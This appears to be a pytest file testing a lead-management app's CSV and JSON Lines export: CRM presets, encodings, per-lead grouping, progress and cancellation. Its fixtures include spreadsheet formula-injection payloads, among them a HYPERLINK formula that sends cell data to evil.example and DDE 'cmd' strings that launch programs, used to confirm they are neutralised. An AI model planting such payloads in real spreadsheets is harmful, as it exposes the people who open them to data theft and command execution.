"""The export job against a real database (SQLite and PostgreSQL): rows, formats, progress, cancel."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import weakref
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from leaddesk import query
from leaddesk.db import Database
from leaddesk.db.models import Tag
from leaddesk.errors import ValidationError
from leaddesk.export import (
    ExportError,
    ExportOptions,
    Format,
    Per,
    export_to_file,
    export_to_stream,
    presets,
    selection,
    source,
    sqlite_csv,
)
from leaddesk.export.fields import Record
from leaddesk.progress import Cancelled, CancelToken
from leaddesk.query import Filter, Sort
from tests.support.factories import (
    BASE_TIME,
    make_account,
    make_contact,
    make_member,
    make_post,
    make_submission,
)

BOM = b"\xef\xbb\xbf"


def read_csv(path: Path, *, encoding: str = "utf-8-sig", delimiter: str = ",") -> list[list[str]]:
    with open(path, encoding=encoding, newline="") as f:
        return list(csv.reader(f, delimiter=delimiter))


def as_dicts(rows: list[list[str]]) -> list[dict[str, str]]:
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


@pytest.fixture
def seeded(db: Database) -> Database:
    """Zoë writes three times (a contact), Bob once, plus spam, other mail and a contact-less lead."""
    with db.session() as s:
        ada = make_member(s, "Ada")
        ada.email = "ada@team.example"
        web = make_account(s, "website")
        imi = make_post(s, "https://example.org/imi", "Europe's IMI Sets Pace")
        paper = make_post(s, "https://example.org/paper", "White Paper")
        zoe = make_contact(s, "zoe@pharma.example")
        hot, cold = Tag(name="hot", colour="#ff0000"), Tag(name="cold", colour="#0000ff")
        first = make_submission(
            s, visitor_name="Zoë Müller", visitor_email="zoe@pharma.example", contact_id=zoe.id,
            visitor_company="Acme Pharma", topic="Patient engagement", post_id=imi.id,
            page_url="https://example.org/imi", account_id=web.id, received_at=BASE_TIME,
            submitted_at=BASE_TIME - timedelta(minutes=1), body_text="First question")
        make_submission(
            s, visitor_name="Zoë Müller", visitor_email="zoe@pharma.example", contact_id=zoe.id,
            topic="Market access", received_at=BASE_TIME + timedelta(days=1), status="done")
        latest = make_submission(
            s, visitor_name="Dr. Zoë Müller", visitor_email="zoe@pharma.example",
            contact_id=zoe.id, visitor_phone="+49 30 1234567", topic="Speakers bureaus",
            post_id=paper.id, page_url="https://example.org/paper", status="open",
            assignee_id=ada.id, received_at=BASE_TIME + timedelta(days=3),
            body_text="Line one\nLine two, with \"quotes\"; and a semicolon")
        make_submission(s, visitor_name="van der Berg, Anna", visitor_email=None, contact_id=None,
                        received_at=BASE_TIME + timedelta(days=2), topic=None)
        make_submission(s, visitor_name="Spammy", status="spam",
                        received_at=BASE_TIME + timedelta(days=4))
        make_submission(s, visitor_name="Newsletter", is_submission=False,
                        received_at=BASE_TIME + timedelta(days=5))
        first.tags.extend([hot, cold])
        latest.tags.append(hot)
    return db


def export_rows(db: Database, tmp_path: Path, flt: Filter | None = None,
                **options: Any) -> list[dict[str, str]]:
    target = tmp_path / "out.csv"
    export_to_file(db, flt or Filter(), target, ExportOptions(**options))
    return as_dicts(read_csv(target))


def test_generic_row_has_iso_times_split_names_and_joined_tags(seeded: Database,
                                                               tmp_path: Path) -> None:
    rows = export_rows(seeded, tmp_path)
    assert [r["name"] for r in rows] == ["Dr. Zoë Müller", "van der Berg, Anna", "Zoë Müller",
                                         "Zoë Müller"]
    oldest = rows[-1]
    assert oldest["received_at"] == "2026-03-02T09:00:00+00:00"
    assert oldest["submitted_at"] == "2026-03-02T08:59:00+00:00"
    assert (oldest["first_name"], oldest["last_name"]) == ("Zoë", "Müller")
    assert oldest["tags"] == "cold; hot"
    assert oldest["account"] == "website"
    assert oldest["post_title"] == "Europe's IMI Sets Pace"
    assert oldest["message"] == "First question"
    assert oldest["id"].isdigit()
    newest = rows[0]
    assert (newest["first_name"], newest["last_name"]) == ("Zoë", "Müller")
    assert newest["phone"] == "+49 30 1234567"  # a phone number calls nothing: as typed
    assert newest["message"] == "Line one\nLine two, with \"quotes\"; and a semicolon"
    assert newest["assignee"] == "Ada"
    assert newest["submitted_at"] == ""
    assert rows[1]["first_name"] == "Anna"
    assert rows[1]["last_name"] == "van der Berg"


def test_times_are_iso_8601_in_utc_with_offset_to_the_second(db: Database, tmp_path: Path) -> None:
    berlin = timezone(timedelta(hours=1))
    with db.session() as s:
        make_submission(s, received_at=datetime(2026, 3, 2, 10, 0, 5, 987654, tzinfo=berlin),
                        submitted_at=datetime(2026, 3, 1, 23, 59, 59, tzinfo=UTC))
        make_submission(s, received_at=datetime(2026, 7, 1, 0, 0, tzinfo=UTC), submitted_at=None)
    rows = export_rows(db, tmp_path, Filter(descending=False), per=Per.SUBMISSION)
    assert [(r["received_at"], r["submitted_at"]) for r in rows] == [
        ("2026-03-02T09:00:05+00:00", "2026-03-01T23:59:59+00:00"),
        ("2026-07-01T00:00:00+00:00", "")]
    leads = export_rows(db, tmp_path, Filter(descending=False), per=Per.LEAD)
    assert [r["first_contact_at"] for r in leads] == ["2026-03-02T09:00:05+00:00",
                                                      "2026-07-01T00:00:00+00:00"]


def test_export_holds_exactly_what_the_query_shows(seeded: Database, tmp_path: Path) -> None:
    filters = [
        Filter(), Filter(statuses=("open", "done")), Filter(topics=(None,)), Filter(tags=("hot",)),
        Filter(assignees=("Ada",)), Filter(text="semicolon"), Filter(include_spam=True),
        Filter(include_spam=True, include_non_submissions=True, descending=False),
        Filter(sort=Sort.NAME, descending=False), Filter(received_from=BASE_TIME + timedelta(days=1)),
    ]
    for flt in filters:
        with seeded.session() as s:
            expected = [str(r.id) for r in query.find(s, flt, limit=1000).rows]
        assert [r["id"] for r in export_rows(seeded, tmp_path, flt)] == expected, flt


def test_selection_exports_exactly_the_ids_even_spam(seeded: Database, tmp_path: Path) -> None:
    with seeded.session() as s:
        everything = query.find(s, Filter(include_spam=True, include_non_submissions=True)).rows
    picked = [r.id for r in everything if r.name in ("Spammy", "Zoë Müller")]
    rows = export_rows(seeded, tmp_path, selection(picked))
    assert sorted(int(r["id"]) for r in rows) == sorted(picked)
    # A selection far beyond the databases' bound-parameter limits is one statement.
    big = selection(range(1, 70_001))
    assert len(export_rows(seeded, tmp_path, big)) == 6


def test_per_lead_folds_a_contacts_submissions(seeded: Database, tmp_path: Path) -> None:
    rows = export_rows(seeded, tmp_path, per=Per.LEAD)
    assert [r["name"] for r in rows] == ["Dr. Zoë Müller", "van der Berg, Anna"]
    zoe, anna = rows
    assert zoe["submission_count"] == "3"
    assert zoe["first_contact_at"] == "2026-03-02T09:00:00+00:00"
    assert zoe["last_contact_at"] == zoe["received_at"] == "2026-03-05T09:00:00+00:00"
    assert (zoe["topic"], zoe["first_topic"]) == ("Speakers bureaus", "Patient engagement")
    assert (zoe["post_title"], zoe["first_post_title"]) == ("White Paper", "Europe's IMI Sets Pace")
    assert zoe["first_page_url"] == "https://example.org/imi"
    assert zoe["tags"] == "hot"  # the latest submission's
    assert zoe["status"] == "open"
    # No e-mail, no contact: the submission is a lead of its own.
    assert (anna["contact_id"], anna["submission_count"]) == ("", "1")
    assert anna["first_contact_at"] == anna["last_contact_at"] == anna["received_at"]


def test_per_lead_counts_only_what_the_filter_lets_through(seeded: Database,
                                                           tmp_path: Path) -> None:
    flt = Filter(statuses=("new", "done"))
    rows = export_rows(seeded, tmp_path, flt, per=Per.LEAD)
    zoe = next(r for r in rows if r["email"] == "zoe@pharma.example")
    assert (zoe["submission_count"], zoe["status"], zoe["topic"]) == ("2", "done", "Market access")
    assert zoe["last_contact_at"] == "2026-03-03T09:00:00+00:00"


def test_hubspot_and_salesforce_rows(seeded: Database, tmp_path: Path) -> None:
    hub = export_rows(seeded, tmp_path, preset=presets.HUBSPOT, per=Per.LEAD)[0]
    assert hub == {
        "First Name": "Zoë", "Last Name": "Müller", "Email": "zoe@pharma.example",
        "Phone Number": "+49 30 1234567", "Company Name": "", "Lead Status": "In Progress",
        "Lifecycle Stage": "Lead", "Contact owner": "ada@team.example",
        "Message": "Line one\nLine two, with \"quotes\"; and a semicolon",
        "Topic of interest": "Speakers bureaus", "Page URL": "https://example.org/paper",
        "Post title": "White Paper", "Received date": "2026-03-05"}
    sf = export_rows(seeded, tmp_path, preset=presets.SALESFORCE)
    assert sf[0]["Salutation"] == "Dr."
    assert sf[0]["Company"] == "[not provided]"
    assert sf[0]["Lead Status"] == "Working - Contacted"
    assert sf[0]["Description"] == (
        "Topic of interest: Speakers bureaus\nPage URL: https://example.org/paper\n"
        "Post title: White Paper\n\nLine one\nLine two, with \"quotes\"; and a semicolon")
    assert sf[-1]["Company"] == "Acme Pharma"


# ---------------------------------------------------------------- read as each CRM's importer does

ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")


def _crm_lead(db: Database) -> None:
    with db.session() as s:
        owner = make_member(s, "Ada")
        owner.email = "ada@team.example"
        post = make_post(s, "https://example.org/blog/speakers/", "Building Speakers Bureaus")
        make_submission(s, visitor_name="Åsa Lind", visitor_email="asa@pharma.example",
                        visitor_phone="+46 31 555 21 80", visitor_company="=cmd|' /C calc'!A0",
                        topic="Speakers bureaus", post_id=post.id,
                        page_url="https://example.org/blog/speakers/", assignee_id=owner.id,
                        received_at=BASE_TIME, body_text="-2+3 speakers, please")
        make_submission(s, visitor_name="Cher", visitor_email="cher@example.test",
                        visitor_phone="+1 (555) 010-2000", topic=None,
                        received_at=BASE_TIME + timedelta(days=1), body_text="Hello")


def test_hubspot_file_reads_as_hubspots_contact_import_documents(db: Database,
                                                                   tmp_path: Path) -> None:
    """HubSpot ("Set up import files"): a .csv, UTF-8, one header row whose headers match
    property labels; contacts need an e-mail (the unique identifier), First or Last name; owner by
    e-mail; date properties in one consistent format (here year-month-day)."""
    _crm_lead(db)
    target = tmp_path / "hubspot.csv"
    export_to_file(db, Filter(descending=False), target, ExportOptions(preset=presets.HUBSPOT))
    data = target.read_bytes()
    assert data.startswith(BOM)  # UTF-8 as Excel's "CSV UTF-8" writes it; HubSpot reads it
    data.decode("utf-8-sig")  # and nothing but UTF-8
    with open(target, encoding="utf-8-sig", newline="") as f:
        reader = csv.DictReader(f)
        header = reader.fieldnames or []
        rows = list(reader)
    assert len(header) == len(set(header)) < 1000
    assert {"Email", "First Name", "Last Name", "Contact owner", "Topic of interest", "Page URL",
            "Post title", "Received date"} <= set(header)
    asa, cher = rows
    assert asa["Email"] == "asa@pharma.example"
    assert (asa["First Name"], asa["Last Name"]) == ("Åsa", "Lind")
    assert asa["Phone Number"] == "+46 31 555 21 80"  # verbatim: no quote in the phone field
    assert cher["Phone Number"] == "+1 (555) 010-2000"
    assert asa["Company Name"] == "'=cmd|' /C calc'!A0"  # a formula is still neutralised
    assert asa["Message"] == "'-2+3 speakers, please"
    assert asa["Contact owner"] == "ada@team.example"
    assert (asa["Topic of interest"], asa["Page URL"], asa["Post title"]) == (
        "Speakers bureaus", "https://example.org/blog/speakers/", "Building Speakers Bureaus")
    assert all(ISO_DATE.fullmatch(r["Received date"]) for r in rows)
    assert asa["Received date"] == BASE_TIME.date().isoformat()
    assert cher["Topic of interest"] == ""


def test_salesforce_file_reads_as_the_data_import_wizard_documents(db: Database,
                                                                   tmp_path: Path) -> None:
    """Salesforce ("Field Mapping for Importing Leads", "Prepare a CSV file"): UTF-8 without a
    BOM, the Lead import-file labels as headers, Last Name and Company required on every row,
    values within the fields' lengths, topic/page/post in the standard Description."""
    _crm_lead(db)
    target = tmp_path / "salesforce.csv"
    export_to_file(db, Filter(descending=False), target, ExportOptions(preset=presets.SALESFORCE))
    data = target.read_bytes()
    assert not data.startswith(BOM)
    assert data.startswith(b'"Salutation","First Name","Last Name",')
    with open(target, encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        header = reader.fieldnames or []
        rows = list(reader)
    documented = {"Salutation", "First Name", "Last Name", "Email", "Phone", "Company",
                  "Lead Source", "Lead Status", "Description"}
    assert set(header) == documented
    assert all(r["Last Name"] and r["Company"] for r in rows)
    asa, cher = rows
    assert asa["Phone"] == "+46 31 555 21 80"
    assert cher["Phone"] == "+1 (555) 010-2000"
    assert (cher["First Name"], cher["Last Name"], cher["Company"]) == ("", "Cher",
                                                                       "[not provided]")
    assert asa["Description"].splitlines()[:3] == [
        "Topic of interest: Speakers bureaus", "Page URL: https://example.org/blog/speakers/",
        "Post title: Building Speakers Bureaus"]
    assert asa["Description"].endswith("\n\n-2+3 speakers, please")  # inside a cell: harmless
    assert cher["Description"] == "Hello"
    assert asa["Company"] == "'=cmd|' /C calc'!A0"
    # The user's explicit choice still wins over the preset's.
    export_to_file(db, Filter(), target, ExportOptions(preset=presets.SALESFORCE,
                                                       encoding="utf-8-sig"))
    assert target.read_bytes().startswith(BOM)


def test_encoding_delimiter_and_line_ends(seeded: Database, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    export_to_file(seeded, Filter(), target)
    data = target.read_bytes()
    assert data.startswith(BOM + b'"id","message_id",')
    assert data.endswith(b"\r\n")
    # Every record ends in CRLF; the LF inside the quoted message stays a bare LF.
    assert data.count(b"\r\n") == 5
    assert b"Line one\nLine two" in data
    export_to_file(seeded, Filter(), target, ExportOptions(encoding="utf-8", delimiter=";"))
    data = target.read_bytes()
    assert data.startswith(b'"id";"message_id";')
    rows = read_csv(target, encoding="utf-8", delimiter=";")
    assert rows[1][rows[0].index("message")] == "Line one\nLine two, with \"quotes\"; and a semicolon"
    assert "Zoë Müller".encode() in data


def test_zero_rows_still_write_the_header(seeded: Database, tmp_path: Path) -> None:
    target = tmp_path / "none.csv"
    result = export_to_file(seeded, Filter(text="nothing-matches-this"), target)
    assert result.rows == 0
    assert target.read_bytes() == BOM + (",".join(f'"{h}"' for h in presets.GENERIC.headers())
                                         + "\r\n").encode()
    export_to_file(seeded, Filter(text="nothing-matches-this"), target,
                   ExportOptions(per=Per.LEAD, preset=presets.HUBSPOT))
    assert read_csv(target) == [presets.HUBSPOT.headers()]


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    'plain, with "quotes"; and\r\nlines',
]


def test_formula_payloads_are_neutralised_end_to_end(db: Database, tmp_path: Path) -> None:
    with db.session() as s:
        for i, payload in enumerate(PAYLOADS):
            make_submission(s, visitor_name=payload, visitor_company=payload, body_text=payload,
                            received_at=BASE_TIME + timedelta(minutes=i))
    target = tmp_path / "payloads.csv"
    export_to_file(db, Filter(descending=False), target)
    rows = as_dicts(read_csv(target))
    expected = [("'" + p if p[0] in "=+-@\t\r\n" else p) for p in PAYLOADS]
    assert [r["name"] for r in rows] == expected
    assert [r["company"] for r in rows] == expected
    assert [r["message"] for r in rows] == expected
    # JSON Lines is for scripts: never altered.
    out = io.BytesIO()
    export_to_stream(db, Filter(descending=False), out, ExportOptions(format=Format.JSONL))
    assert [json.loads(line)["name"] for line in out.getvalue().splitlines()] == PAYLOADS


def test_json_lines_have_the_list_keys_plus_split_names(seeded: Database) -> None:
    out = io.BytesIO()
    export_to_stream(seeded, Filter(), out, ExportOptions(format=Format.JSONL))
    data = out.getvalue()
    assert not data.startswith(BOM)
    objects = [json.loads(line) for line in data.decode("utf-8").splitlines()]
    with seeded.session() as s:
        expected = [r.as_json() for r in query.find(s, Filter()).rows]
    assert [{k: v for k, v in o.items() if k not in ("first_name", "last_name")}
            for o in objects] == expected
    assert (objects[0]["first_name"], objects[0]["last_name"]) == ("Zoë", "Müller")
    assert objects[0]["tags"] == ["hot"]

    out = io.BytesIO()
    export_to_stream(seeded, Filter(), out, ExportOptions(format=Format.JSONL, per=Per.LEAD))
    leads = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [o["submission_count"] for o in leads] == [3, 1]
    assert leads[0]["first_topic"] == "Patient engagement"
    assert leads[0]["first_contact_at"] == "2026-03-02T09:00:00+00:00"


def test_streams_to_text_streams_too(seeded: Database) -> None:
    text = io.StringIO()
    export_to_stream(seeded, Filter(), text)
    assert text.getvalue().startswith('\ufeff"id",')
    wrapped = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    wrapped.write("before\n")
    export_to_stream(seeded, Filter(), wrapped, ExportOptions(encoding="utf-8"))
    wrapped.flush()
    raw = wrapped.buffer.getvalue()
    assert raw.startswith(b'before\n"id",')


class Recorder:
    def __init__(self, cancel_after: int | None = None, token: CancelToken | None = None) -> None:
        self.events: list[tuple[Any, ...]] = []
        self.cancel_after, self.token = cancel_after, token

    def started(self, what: str, total: int | None) -> None:
        self.events.append(("started", what, total))

    def progress(self, done: int, total: int | None) -> None:
        self.events.append(("progress", done, total))
        if self.token is not None and self.cancel_after is not None and done >= self.cancel_after:
            self.token.cancel()

    def item_failed(self, item: str, reason: str) -> None:
        self.events.append(("failed", item, reason))

    def finished(self, summary: str) -> None:
        self.events.append(("finished", summary))


def many(db: Database, n: int) -> None:
    with db.session() as s:
        for i in range(n):
            make_submission(s, received_at=BASE_TIME + timedelta(minutes=i))


def test_progress_reports_every_batch(db: Database, tmp_path: Path) -> None:
    many(db, 25)
    recorder = Recorder()
    result = export_to_file(db, Filter(), tmp_path / "out.csv", ExportOptions(batch=10),
                            reporter=recorder)
    assert result.rows == 25
    assert recorder.events == [
        ("started", "Exporting submissions", 25), ("progress", 10, 25), ("progress", 20, 25),
        ("progress", 25, 25), ("finished", f"Exported 25 submissions to {tmp_path / 'out.csv'}")]


@pytest.fixture
def out_dir(tmp_path: Path) -> Path:
    """A folder for exports only (the SQLite database lives in tmp_path)."""
    folder = tmp_path / "exports"
    folder.mkdir()
    return folder


def test_cancel_leaves_no_file_and_keeps_an_existing_one(db: Database, out_dir: Path) -> None:
    many(db, 25)
    target = out_dir / "out.csv"
    token = CancelToken()
    recorder = Recorder(cancel_after=10, token=token)
    with pytest.raises(Cancelled):
        export_to_file(db, Filter(), target, ExportOptions(batch=10), reporter=recorder,
                       cancel=token)
    assert os.listdir(out_dir) == []  # neither the file nor its temporary
    assert ("progress", 20, 25) not in recorder.events  # stopped between batches
    assert recorder.events[-1] == ("finished", f"Export cancelled; {target} was not written")

    target.write_text("yesterday's export", encoding="utf-8")
    target.chmod(0o640)
    token = CancelToken()
    with pytest.raises(Cancelled):
        export_to_file(db, Filter(), target, ExportOptions(batch=10),
                       reporter=Recorder(cancel_after=10, token=token), cancel=token)
    assert target.read_text(encoding="utf-8") == "yesterday's export"
    export_to_file(db, Filter(), target)
    assert target.read_text(encoding="utf-8-sig").startswith('"id"')
    assert target.stat().st_mode & 0o777 == 0o640  # a replaced file keeps its permissions
    assert os.listdir(out_dir) == ["out.csv"]


def test_a_cancel_before_the_start_writes_nothing(db: Database, out_dir: Path) -> None:
    token = CancelToken()
    token.cancel()
    with pytest.raises(Cancelled):
        export_to_file(db, Filter(), out_dir / "out.csv", cancel=token)
    assert os.listdir(out_dir) == []


def test_unwritable_targets_are_user_errors(db: Database, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="is a folder"):
        export_to_file(db, Filter(), tmp_path)
    with pytest.raises(ExportError, match="cannot write"):
        export_to_file(db, Filter(), tmp_path / "missing" / "out.csv")


@pytest.mark.parametrize(("options", "message"), [
    ({"encoding": "latin-1"}, "unknown encoding"),
    ({"format": Format.JSONL, "encoding": "utf-8-sig"}, "always plain UTF-8"),
    ({"delimiter": "\t"}, "delimiter"),
    ({"batch": 0}, "batch"),
])
def test_options_are_checked(options: dict[str, Any], message: str) -> None:
    with pytest.raises(ValidationError, match=message):
        ExportOptions(**options)


# ----------------------------------------------------------------- streaming, in behaviour

class TrackedBatch(list[Record]):
    """A batch that can be weakly referenced, to see whether anything kept it."""


def tracked_batches(count: int, size: int, alive: list[weakref.ref[TrackedBatch]]
                    ) -> Iterator[list[Record]]:
    for b in range(count):
        # Whatever came before must be gone by now: written, and not held by anyone.
        assert sum(ref() is not None for ref in alive) <= 1, "the writer holds on to old batches"
        batch = TrackedBatch(Record(id=b * size + i, status="new", name=f"Visitor {i}",
                                    received_at="2026-03-02T09:00:00+00:00") for i in range(size))
        alive.append(weakref.ref(batch))
        yield batch


def test_the_writer_pulls_batches_and_keeps_none(db: Database, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    alive: list[weakref.ref[TrackedBatch]] = []
    pulls: list[int] = []

    def fake_batches(session: Any, flt: Filter, *, per_lead: bool, batch: int
                     ) -> Iterator[list[Record]]:
        pulls.append(batch)
        return tracked_batches(50, batch, alive)

    monkeypatch.setattr(source, "batches", fake_batches)
    monkeypatch.setattr(source, "count", lambda session, flt, per_lead: 50 * 7)
    # The general path's writer (SQLite's fast path reads no records: see test_sqlite_csv.py).
    monkeypatch.setattr(sqlite_csv, "plan", lambda session, columns: None)
    result = export_to_file(db, Filter(), tmp_path / "out.csv", ExportOptions(batch=7))
    assert pulls == [7]  # one generator, pulled lazily
    assert result.rows == 350
    assert len(read_csv(tmp_path / "out.csv")) == 351


def test_source_fetches_batch_by_batch(db: Database) -> None:
    many(db, 25)
    with db.session() as s:
        stream = source.batches(s, Filter(), per_lead=False, batch=10)
        first = next(stream)
        assert len(first) == 10
        assert [len(b) for b in stream] == [10, 5]
        leads = list(source.batches(s, Filter(), per_lead=True, batch=10))
        assert [len(b) for b in leads] == [10, 10, 5]

